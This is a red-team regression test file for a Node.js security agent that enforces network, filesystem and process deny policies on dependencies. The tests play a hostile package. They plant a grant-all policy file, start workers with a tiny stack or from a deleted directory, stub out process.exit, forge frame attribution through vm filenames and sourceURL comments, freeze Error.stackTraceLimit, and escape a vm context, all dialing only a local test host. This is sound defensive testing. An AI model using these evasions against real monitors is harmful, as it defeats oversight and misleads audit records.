// Red team, round 4: loader escape hatches, worker threads, network APIs above the socket, and the
// integrity of events and of terminateOnDeny. A hostile dependency that knows the agent is there
// tries to run code the agent does not govern, to survive terminateOnDeny, or to make an event name
// the wrong package. The observers live in the test process: a TCP server on 127.0.0.2 that counts
// what really arrived, and the event files. Each finding's test failed against the bundle before its
// fix (see the commit messages); attacks that held are kept, grouped, as regression tests.
import { createHash, randomBytes } from 'node:crypto';
import { mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { sha256Hex } from '../src/sha256.js';
import { type AgentEvent, appResults, cleanup, type RunOptions, runFixture } from './harness.js';
import { DENY_ALL, FORBIDDEN_HOST, runAttack, targetDir, useForbiddenServer } from './redteam-support.js';

const server = useForbiddenServer();

// A worker (eval'd source) that dials FORBIDDEN:PORT and posts what happened.
const HELPERS = `
const { Worker } = require('node:worker_threads');
const WORKER_DIAL = \`
const net = require('node:net');
const { parentPort } = require('node:worker_threads');
const socket = net.connect(Number(process.env.RT_PORT), '${FORBIDDEN_HOST}');
socket.on('connect', () => { socket.destroy(); parentPort.postMessage({ connected: true }); });
socket.on('error', (error) => parentPort.postMessage({ error: error.code || String(error) }));
\`;
const inWorker = (source, options = {}) => new Promise((resolve) => {
  let worker;
  try { worker = new Worker(source, { eval: true, ...options }); } catch (error) { resolve({ thrown: error.code || String(error) }); return; }
  let result = { exited: true };
  worker.on('message', (message) => { result = message; });
  worker.on('error', (error) => { result = { workerError: String(error && error.message) }; });
  worker.on('exit', (code) => resolve({ ...result, exitCode: code }));
});
`;

const attack = (body: string, options: Partial<RunOptions> = {}) =>
  runAttack(server, `${HELPERS}\n${body}`, options);

const denials = (events: AgentEvent[]) => events.filter((event) => event.action === 'deny');

// A worker's agent read the policy again from where the process's agent had read it: ES_POLICY_FILE,
// or the extension's policy.json in ES_RUNTIME_DIR. An app allowed to write there (filesystem
// observe: one event; filesystem grant: no hooks at all) replaced it with a grant-everything policy
// and started a worker, which then reached 127.0.0.2 under network deny, unreported.
// GOT THROUGH before the fix: `{ connected: true }`, the server accepted the connection. Fix: a
// worker inherits the policy of the thread that starts it (worker_threads environment data, set by
// the Worker hook around the construction only), and reads no file.
describe('red team 4: a worker gets the policy of the process, not the policy file as it is now', () => {
  const GRANT_ALL = { name: 'planted', network: 'grant', filesystem: 'grant', process: 'grant' };
  // the file is replaced as a whole (write a temporary file, rename it over), as a careful attacker would
  const REWRITE_AND_DIAL = `
const path = process.env.RT_HANDOFF ? require('node:path').join(process.env.ES_RUNTIME_DIR, 'policy.json') : process.env.ES_POLICY_FILE;
fs.writeFileSync(path + '.new', process.env.RT_PLANT);
fs.renameSync(path + '.new', path);
report(await inWorker(WORKER_DIAL));`;

  it.each([
    ['ES_POLICY_FILE, filesystem observe', 'observe', false],
    ["the extension's policy.json, filesystem observe", 'observe', true],
    ["the extension's policy.json, filesystem grant", 'grant', true],
  ] as const)('%s: the worker is still under network deny', async (_label, filesystem, handOff) => {
    const group = { ...DENY_ALL, filesystem };
    const { run, accepted } = await attack(
      REWRITE_AND_DIAL,
      handOff
        ? {
            policy: null,
            env: {
              RT_HANDOFF: '1',
              RT_PLANT: JSON.stringify({ policy: GRANT_ALL, source: 'control-plane' }),
            },
            setup: ({ runtimeDir }) => {
              mkdirSync(runtimeDir, { recursive: true });
              writeFileSync(
                join(runtimeDir, 'policy.json'),
                JSON.stringify({ policy: group, source: 'control-plane' }),
              );
            },
          }
        : { policy: group, env: { RT_PLANT: JSON.stringify(GRANT_ALL) } },
    );
    const detail = JSON.stringify({ results: appResults(run), stderr: run.stderr });
    expect(accepted, detail).toBe(0);
    expect(appResults(run)[0], detail).toMatchObject({ error: 'ERR_ACCESS_DENIED' });
    expect(denials(run.events).map((event) => event.target)).toContain(`${FORBIDDEN_HOST}:${server.port}`);
    cleanup(run);
  });
});

// terminateOnDeny in a worker thread: `process.reallyExit` there ends the worker only. The main
// thread saw the worker exit with 70 and carried on: a hostile dependency could probe denied
// operations from throwaway workers, as often as it liked, without ever ending the function.
// GOT THROUGH before the fix: `{ survived: true, workerExit: 70 }`. Fix: a worker's agent ends the
// whole process (SIGKILL: a thread cannot give its process an exit status) after writing its events.
describe('red team 4: terminateOnDeny in a worker thread', () => {
  it('ends the whole process, not just the worker', async () => {
    const { run, accepted } = await attack(
      `
// and the worker replaces what the agent might call to end its process
const outcome = await inWorker('process.kill = () => true; process._kill = () => 0; process.reallyExit = () => {}; process.exit = () => {};' + WORKER_DIAL);
report({ survived: true, outcome });`,
      { policy: { ...DENY_ALL, terminateOnDeny: true } },
    );
    const detail = JSON.stringify({
      code: run.code,
      signal: run.signal,
      out: run.appOutput,
      stderr: run.stderr,
    });
    expect(accepted, detail).toBe(0);
    expect(run.appOutput, detail).not.toContain('survived');
    expect(run.signal, detail).toBe('SIGKILL');
    expect(denials(run.events), detail).toEqual([expect.objectContaining({ terminated: true })]);
    cleanup(run);
  });
});

// Attribution names the package whose code made the call. Code compiled with a file name it chose
// (`vm.runInThisContext`/`compileFunction`/`Script` with `filename`, `Module#_compile`, or a
// `//# sourceURL=` comment in `eval`/`new Function`) and called from a timer, so that no frame of
// its own is on the stack, made the event name another, innocent, package.
// GOT THROUGH before the fix: the deny events said `module: { name: 'innocent', version: '1.0.0' }`
// for code of `evil`. Fix: a frame attributes a package only when its code is the file it names
// (V8's script hash, the SHA-256 of the source, against the file's content, checked on the event
// path only and cached); other frames stay in `stack`, marked, and attribute nothing.
describe('red team 4: attribution names the package whose code it is', () => {
  const setupPackages = ({ workDir }: { workDir: string }) => {
    for (const name of ['evil', 'innocent']) {
      mkdirSync(join(workDir, 'node_modules', name), { recursive: true });
      writeFileSync(
        join(workDir, 'node_modules', name, 'package.json'),
        JSON.stringify({ name, version: '1.0.0', main: 'index.js' }),
      );
    }
    writeFileSync(
      join(workDir, 'node_modules', 'innocent', 'index.js'),
      `exports.dial = (port) => require('node:net').connect(port, '${FORBIDDEN_HOST}').on('error', () => {});\n`,
    );
    writeFileSync(
      join(workDir, 'node_modules', 'evil', 'index.js'),
      `
const net = require('node:net');
const vm = require('node:vm');
const Module = require('node:module');
const innocent = require.resolve('innocent');
require('innocent').dial(1); // control: innocent's own code
net.connect(2, '${FORBIDDEN_HOST}').on('error', () => {}); // control: evil's own code
const body = 'net.connect(port, "${FORBIDDEN_HOST}").on("error", () => {});';
setTimeout(vm.runInThisContext('(function (net, port) {' + body + '})', { filename: innocent }), 0, net, 3);
setTimeout(vm.compileFunction(body, ['net', 'port'], { filename: innocent }), 0, net, 4);
setTimeout(new vm.Script('(function (net, port) {' + body + '})', { filename: innocent }).runInThisContext(), 0, net, 5);
const forged = new Module(innocent);
forged._compile('module.exports = function (net, port) {' + body + '};', innocent);
setTimeout(forged.exports, 0, net, 6);
setTimeout(new Function('net', 'port', body + '\\n//# sourceURL=' + innocent), 0, net, 7);
setTimeout(eval('(function (net, port) {' + body + '})\\n//# sourceURL=' + innocent), 0, net, 8);
// a name that is no file to read (the agent must not read /dev/zero until it runs out of memory)
setTimeout(new Function('net', 'port', body + '\\n//# sourceURL=/dev/zero'), 0, net, 9);
`,
    );
  };

  it('code compiled under another package’s file name is not attributed to that package', async () => {
    const run = await runFixture({
      policy: DENY_ALL,
      source: `require('evil'); setTimeout(() => {}, 300);`,
      setup: setupPackages,
    });
    const byPort = new Map(
      denials(run.events).map((event) => [Number(String(event.target).split(':')[1]), event]),
    );
    const detail = JSON.stringify(
      denials(run.events).map(({ target, module, stack }) => ({ target, module, stack })),
    );
    expect(byPort.size, detail).toBe(9);
    expect(byPort.get(1)?.module, detail).toEqual({ name: 'innocent', version: '1.0.0' });
    expect(byPort.get(2)?.module, detail).toEqual({ name: 'evil', version: '1.0.0' });
    for (let port = 3; port <= 9; port++) {
      expect(byPort.get(port)?.module?.name, `port ${port}: ${detail}`).not.toBe('innocent');
      // the frame is still shown, marked
      expect(byPort.get(port)?.stack?.[0], `port ${port}: ${detail}`).toMatch(/\(code not from this file\)$/);
    }
    cleanup(run);
  });
});

describe('red team 4: the SHA-256 that attribution compares with V8 script hashes', () => {
  it('is SHA-256 (every padding boundary, and a multi-block input)', () => {
    for (const length of [0, 1, 55, 56, 63, 64, 65, 119, 120, 100_000]) {
      const bytes = randomBytes(length);
      expect(sha256Hex(bytes), `length ${length}`).toBe(createHash('sha256').update(bytes).digest('hex'));
    }
  });
});

// `Error.stackTraceLimit` frozen at 0 (or made a non-configurable accessor, which V8 does not call):
// V8 then captures no frame at all in this realm. The deny event carried no `module` and no `stack`,
// and the agent, unable to prove its own event-file writes were its own, judged them as the app's:
// under filesystem deny the event reached stdout only, not ES_EVENT_FILE or the spool.
// GOT THROUGH before the fix (a documented limitation then). Fix: the agent captures through the
// `Error` of a private `vm` context (its own limit; `node:vm`'s functions captured at start), made
// the first time the app's limit cannot be set.
describe('red team 4: a frozen Error.stackTraceLimit hides nothing', () => {
  it.each([
    [
      'frozen at 0',
      `Object.defineProperty(Error, 'stackTraceLimit', { value: 0, writable: false, configurable: false });`,
    ],
    [
      'a non-configurable accessor',
      `Object.defineProperty(Error, 'stackTraceLimit', { get: () => 0, set() {}, configurable: false });`,
    ],
  ])('%s: the event names the caller and reaches every sink', async (_label, freeze) => {
    const { run, accepted } = await attack(`
${freeze}
function hostileCaller() { return tryConnect({ host: FORBIDDEN, port: PORT }); }
report(await hostileCaller());`);
    const detail = JSON.stringify({ events: run.events, stdout: run.stdoutEvents, stderr: run.stderr });
    expect(accepted, detail).toBe(0);
    expect(appResults(run)[0], detail).toEqual({ error: 'ERR_ACCESS_DENIED' });
    for (const sink of [run.events, run.spoolEvents, run.stdoutEvents]) {
      const [event] = denials(sink).filter((each) => String(each.target).startsWith(`${FORBIDDEN_HOST}:`));
      expect(event?.stack, detail).toEqual(
        expect.arrayContaining([expect.stringMatching(/app\.cjs:\d+:\d+ hostileCaller$/)]),
      );
    }
    cleanup(run);
  });
});

describe('red team 4: attacks that held (regression)', () => {
  it('loader roads to net and workers started every other way stay under deny', async () => {
    const { run, accepted } = await attack(
      `
const { SHARE_ENV } = require('node:worker_threads');
const Module = require('node:module');
const vm = require('node:vm');
const results = {};
// loader roads
for (const key of Object.keys(require.cache)) delete require.cache[key];
results.purgedCache = await tryConnect({ host: FORBIDDEN, port: PORT }, require('node:net'));
results.importNamespace = await tryConnect({ host: FORBIDDEN, port: PORT }, await import('node:net'));
Module.prototype.require = function (id) { return Module._load(id, this, false); };
results.ownRequire = await tryConnect({ host: FORBIDDEN, port: PORT }, module.require('net'));
const escaped = vm.runInNewContext('this.constructor.constructor("return process")()', {});
results.vmProcess = await tryConnect({ host: FORBIDDEN, port: PORT }, escaped.getBuiltinModule ? escaped.getBuiltinModule('net') : net);
results.syncedExports = (() => { require('node:module').syncBuiltinESMExports(); return 'ok'; })();
results.afterSync = await tryConnect({ host: FORBIDDEN, port: PORT }, await import('node:net'));
// workers
const SPAWN = "try { require('node:child_process').execFileSync('/bin/touch', [process.env.RT_TARGET + '/child-ran']); } catch (error) { require('node:worker_threads').parentPort.postMessage({ spawn: error.code }); }";
results.workerSpawn = await inWorker(SPAWN, { env: { RT_TARGET: process.env.RT_TARGET } });
results.nested = await inWorker("const { Worker, parentPort } = require('node:worker_threads'); new Worker(" + JSON.stringify(WORKER_DIAL) + ", { eval: true, env: { RT_PORT: process.env.RT_PORT }, execArgv: [] }).on('message', (m) => parentPort.postMessage(m));", { env: { RT_PORT: process.env.RT_PORT }, execArgv: [] });
process.env.NODE_OPTIONS = '';
process.env.ES_POLICY_FILE = '/nonexistent';
results.editedNodeOptions = await inWorker(WORKER_DIAL);
results.shareEnv = await inWorker(WORKER_DIAL, { env: SHARE_ENV });
results.dataUrl = await new Promise((resolve) => {
  const worker = new Worker(new URL('data:text/javascript,' + encodeURIComponent(
    "import { connect } from 'node:net'; import { parentPort } from 'node:worker_threads';" +
    "const socket = connect(" + PORT + ", '" + FORBIDDEN + "'); socket.on('connect', () => parentPort.postMessage({ connected: true })); socket.on('error', (error) => parentPort.postMessage({ error: error.code }));")));
  worker.on('message', resolve);
  worker.on('error', (error) => resolve({ workerError: String(error.message) }));
});
report(results);`,
      { env: { RT_TARGET: '/tmp/redteam4-nothing-here' } },
    );
    const [results] = appResults(run) as Array<Record<string, Record<string, unknown> | string>>;
    const detail = JSON.stringify({ results, stderr: run.stderr });
    expect(accepted, detail).toBe(0);
    for (const [name, result] of Object.entries(results ?? {})) {
      if (name === 'syncedExports') continue;
      expect(JSON.stringify(result), `${name}: ${detail}`).toMatch(/ERR_ACCESS_DENIED/);
    }
    cleanup(run);
  });
});

// A worker started with a tiny `resourceLimits.stackSizeMb` (about 0.25 MB; Node's own bootstrap
// needs just under that) ran out of stack part-way through its agent's start: the hooks installed
// until then stayed, the rest were skipped with a log line, and at some sizes the worker's own code
// still ran. GOT THROUGH before the fix: at 0.2532-0.2540 MB (Node 20) the hooks of node:dns were
// missing, and the worker's `dns.lookup` of a denied name went out unjudged and unreported.
// Fix: the Worker hook raises a smaller stackSizeMb to what the agent needs (leaving any other value
// alone), and a worker's agent whose stack is still too small (a Worker the hook did not see: process
// grant) or whose hooks could not all be installed ends the worker before its code runs, saying why.
describe('red team 4: a worker with a tiny stack never runs with some hooks missing', () => {
  // sizes around where Node's bootstrap, the agent and the app's first lines stop fitting
  const SIZES = Array.from({ length: 21 }, (_, i) => Number((0.25 + i * 0.0003).toFixed(4)));
  const SWEEP = `
const target = process.env.RT_TARGET;
const WORKER_TRY = \`
const { parentPort, resourceLimits } = require('node:worker_threads');
const out = { stackSizeMb: resourceLimits.stackSizeMb };
try { require('node:fs').writeFileSync(process.env.RT_TARGET + '/written-' + process.env.RT_SIZE, 'x'); out.write = 'written'; }
catch (error) { out.write = error.code || String(error); }
require('node:dns').lookup('denied-name.invalid', (error) => {
  out.dns = error ? error.code : 'resolved';
  const socket = require('node:net').connect(Number(process.env.RT_PORT), '${FORBIDDEN_HOST}');
  socket.on('connect', () => { socket.destroy(); out.connect = 'connected'; parentPort.postMessage(out); });
  socket.on('error', (error) => { out.connect = error.code || String(error); parentPort.postMessage(out); });
});\`;
const results = {};
for (const size of ${JSON.stringify(SIZES)}) {
  results[size] = await inWorker(WORKER_TRY, { resourceLimits: { stackSizeMb: size }, env: { ...process.env, RT_SIZE: String(size) } });
}
report(results);`;

  const sweep = async (policy: Record<string, unknown>) => {
    const target = targetDir();
    const outcome = await attack(SWEEP, { policy, env: { RT_TARGET: target.dir } });
    const written = readdirSync(target.dir);
    target.remove();
    const [results] = appResults(outcome.run) as Array<Record<string, Record<string, unknown>>>;
    return { ...outcome, results: results ?? {}, written };
  };

  it('through the Worker hook: the stack is raised and every worker runs governed', async () => {
    const { run, accepted, results, written } = await sweep(DENY_ALL);
    const detail = JSON.stringify({ results, stderr: run.stderr });
    expect(accepted, detail).toBe(0);
    expect(written, detail).toEqual([]);
    for (const size of SIZES) {
      expect(results[size], `${size}: ${detail}`).toMatchObject({
        write: 'ERR_ACCESS_DENIED',
        dns: 'ERR_ACCESS_DENIED',
        connect: 'ERR_ACCESS_DENIED',
      });
      expect(results[size]?.stackSizeMb, `${size}: ${detail}`).toBeGreaterThanOrEqual(0.5);
    }
    expect(run.stderr, detail).not.toContain('could not');
    cleanup(run);
  });

  it('a Worker the hook did not see (process grant): the worker ends before its code runs, saying why', async () => {
    const { run, accepted, results, written } = await sweep({ ...DENY_ALL, process: 'grant' });
    const detail = JSON.stringify({ results, stderr: run.stderr });
    expect(accepted, detail).toBe(0);
    expect(written, detail).toEqual([]);
    for (const size of SIZES) {
      const result = results[size] ?? {};
      // the app's code in the worker never started: nothing posted, a non-zero exit
      expect(result.stackSizeMb, `${size}: ${detail}`).toBeUndefined();
      expect(result.exitCode, `${size}: ${detail}`).not.toBe(0);
    }
    expect(run.stderr, detail).toMatch(/stackSizeMb .* too small .*the worker ends before its code runs/);
    cleanup(run);
  });

  it('a stackSizeMb that is large enough is left as it is', async () => {
    const { run } = await attack(`
const READ = "require('node:worker_threads').parentPort.postMessage(require('node:worker_threads').resourceLimits);";
report({
  two: await inWorker(READ, { resourceLimits: { stackSizeMb: 2 } }),
  half: await inWorker(READ, { resourceLimits: { stackSizeMb: 0.5 } }),
  other: await inWorker(READ, { resourceLimits: { maxOldGenerationSizeMb: 64 } }),
  none: await inWorker(READ),
});`);
    const [results] = appResults(run) as Array<Record<string, Record<string, unknown>>>;
    const detail = JSON.stringify({ results, stderr: run.stderr });
    expect(results?.two?.stackSizeMb, detail).toBe(2);
    expect(results?.half?.stackSizeMb, detail).toBe(0.5);
    expect(results?.other, detail).toMatchObject({ stackSizeMb: 4, maxOldGenerationSizeMb: 64 });
    expect(results?.none?.stackSizeMb, detail).toBe(4);
    cleanup(run);
  });
});

// A worker started after the app removed its working directory: the worker's agent failed on the
// empty working directory ("could not start and is not protecting this process") and the worker's
// code ran without it. GOT THROUGH before the fix: `{ connected: true }`. Fix: a worker takes the
// starting thread's application directories, and a worker whose agent cannot start ends.
describe('red team 4: a worker started from a removed working directory', () => {
  it('is governed all the same', async () => {
    const { run, accepted } = await attack(
      `
const path = require('node:path');
const gone = path.join(__dirname, 'gone');
fs.mkdirSync(gone);
process.chdir(gone);
fs.rmdirSync(gone);
report(await new Promise((resolve) => {
  const worker = new Worker(path.join(__dirname, 'dial.cjs'));
  worker.on('message', resolve);
  worker.on('error', (error) => resolve({ workerError: String(error.message) }));
  worker.on('exit', (code) => resolve({ exitCode: code }));
}));`,
      {
        policy: { ...DENY_ALL, filesystem: 'observe' },
        setup: ({ workDir }) =>
          writeFileSync(
            join(workDir, 'dial.cjs'),
            `const socket = require('node:net').connect(Number(process.env.RT_PORT), '${FORBIDDEN_HOST}');
const { parentPort } = require('node:worker_threads');
socket.on('connect', () => { socket.destroy(); parentPort.postMessage({ connected: true }); });
socket.on('error', (error) => parentPort.postMessage({ error: error.code || String(error) }));`,
          ),
      },
    );
    const detail = JSON.stringify({ results: appResults(run), stderr: run.stderr });
    expect(accepted, detail).toBe(0);
    expect(appResults(run)[0], detail).toEqual({ error: 'ERR_ACCESS_DENIED' });
    cleanup(run);
  });
});
